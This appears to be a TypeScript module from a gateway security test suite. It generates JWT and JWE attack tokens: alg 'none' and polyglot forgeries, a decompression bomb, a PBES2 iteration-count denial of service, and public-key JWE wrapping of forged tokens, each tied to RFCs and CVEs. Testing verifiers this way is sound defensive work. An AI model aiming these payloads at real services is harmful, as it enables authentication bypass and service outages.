import { deflateRawSync } from 'node:zlib';
import { CompactEncrypt } from 'jose';
import { type Attack, type AttackContext, CREDENTIAL_INVALID, TOKEN_INVALID } from '../attack.ts';
import { attackerToken, encode, gatewayHeader, signedToken, withHeader } from '../forge.ts';
import { bearer, bearerAttack, PROXIED_PATH, requestAttack } from '../requests.ts';

/** The live token in the two JSON serializations (RFC 7515, section 7.2). */
const flattened = ({ live }: AttackContext): string =>
  JSON.stringify({ payload: live.payload, protected: live.header, signature: live.signature });
const general = ({ live }: AttackContext): string =>
  JSON.stringify({
    payload: live.payload,
    signatures: [{ protected: live.header, signature: live.signature }],
  });

const unprotected = (context: AttackContext): string =>
  JSON.stringify({
    payload: context.live.payload,
    header: { ...gatewayHeader(context), alg: 'none' },
    signature: '',
  });

/** A text that one parser reads as the live token in JSON and another as a forged compact token. */
function polyglot({ live }: AttackContext): string {
  const forged = encode({ ...live.claims, sub: 'attacker' });
  const genuine = `"protected":"${live.header}","payload":"${live.payload}","signature":"${live.signature}"`;
  return `{"${live.header}.${forged}.":"",${genuine}}`;
}

/** A JWE (RFC 7516, section 7.1) for the gateway's public key, which anyone can create. */
const encrypted = (
  context: AttackContext,
  plaintext: string,
  extra: { cty?: string } = {},
): Promise<string> =>
  new CompactEncrypt(Buffer.from(plaintext))
    .setProtectedHeader({ ...gatewayHeader(context), alg: 'RSA-OAEP-256', enc: 'A256GCM', ...extra })
    .encrypt(context.publicKey);

export const SERIALIZATION_ATTACKS: readonly Attack[] = [
  bearerAttack(
    'json-serialization',
    'a live token in the JSON serializations',
    'RFC 7519 §3: JWTs are always compact; CVE-2022-39227',
    (context) => [flattened(context), general(context), unprotected(context), polyglot(context)],
    CREDENTIAL_INVALID,
  ),
  bearerAttack(
    'json-encoded',
    'a live token in the JSON serializations, in base64url',
    'RFC 7519 §3; CVE-2022-39227',
    (context) => [
      encode(flattened(context)),
      `${encode(flattened(context))}..`,
      `${encode(general(context))}.${context.live.payload}.${context.live.signature}`,
      encode(context.live.text),
    ],
  ),
  requestAttack(
    'detached-payload',
    'a live token without its payload, which is sent in the body',
    'RFC 7515 appendix F',
    TOKEN_INVALID,
    ({ live: { header, payload, signature } }) =>
      ['GET', 'POST'].map((method) => ({
        method,
        target: PROXIED_PATH,
        lines: [bearer(`${header}..${signature}`), `Content-Length: ${payload.length}`],
        body: payload,
      })),
  ),
  bearerAttack(
    'nested',
    'a token whose payload is a live token',
    'RFC 7519 §5.2; RFC 8725 §2.3, §3.3',
    (context) => {
      const header = { ...gatewayHeader(context), cty: 'JWT' };
      const payload = context.live.text;
      return [
        attackerToken(context, { header, payload }),
        signedToken(context, { header, payload }),
        signedToken(context, { payload }),
        `${encode({ alg: 'none', cty: 'JWT' })}.${encode(payload)}.`,
      ];
    },
  ),
  bearerAttack(
    'compressed',
    'a token with a compressed payload',
    'RFC 8725 §3.6; RFC 7516 §4.1.3; CVE-2024-28176',
    (context) => {
      const payload = deflateRawSync(JSON.stringify(context.live.claims));
      const bomb = deflateRawSync(Buffer.alloc(1024 * 1024, '{'));
      const header = { ...gatewayHeader(context), zip: 'DEF' };
      return [
        signedToken(context, { header, payload }),
        signedToken(context, { header, payload: bomb }),
        withHeader(context, { zip: 'DEF' }),
        signedToken(context, { payload }),
      ];
    },
  ),
  bearerAttack(
    'jwe-to-public-key',
    "the claims encrypted with the gateway's public key instead of signed",
    'RFC 8725 §2.3, §3.12; CVE-2023-51774',
    async (context) => [await encrypted(context, JSON.stringify(context.live.claims))],
  ),
  bearerAttack(
    'jwe-around-token',
    "an unsigned, a forged and a live token, encrypted with the gateway's public key",
    'RFC 8725 §3.3; CVE-2026-29000',
    (context) => {
      const unsigned = `${encode({ alg: 'none' })}.${context.live.payload}.`;
      const tokens = [unsigned, attackerToken(context), context.live.text];
      return Promise.all(tokens.map((token) => encrypted(context, token, { cty: 'JWT' })));
    },
  ),
  bearerAttack(
    'jwe-costly',
    'an encrypted token that requests 2,147,483,647 iterations of key derivation',
    'RFC 7518 §8.1; CVE-2022-36083; CVE-2023-50966',
    ({ live: { kid } }) => {
      const derivation = { p2s: 'c2FsdHNhbHQ', p2c: 2_147_483_647 };
      const header = { alg: 'PBES2-HS512+A256KW', enc: 'A256GCM', ...derivation, kid };
      return [[header, 'wrapped key', 'twelve bytes', 'ciphertext', 'tag'].map(encode).join('.')];
    },
  ),
  bearerAttack(
    'jwe-direct',
    'five parts without any encryption, some of them from a live token',
    'RFC 7516 §5.2',
    ({ live: { text, header, payload, signature, kid } }) => {
      const direct = encode({ alg: 'dir', enc: 'A256GCM', kid });
      return [
        `${direct}..${encode('twelve bytes')}.${payload}.${encode('sixteen bytes...')}`,
        `${text}..`,
        `${header}.${payload}.${signature}.${payload}.${signature}`,
      ];
    },
  ),
];
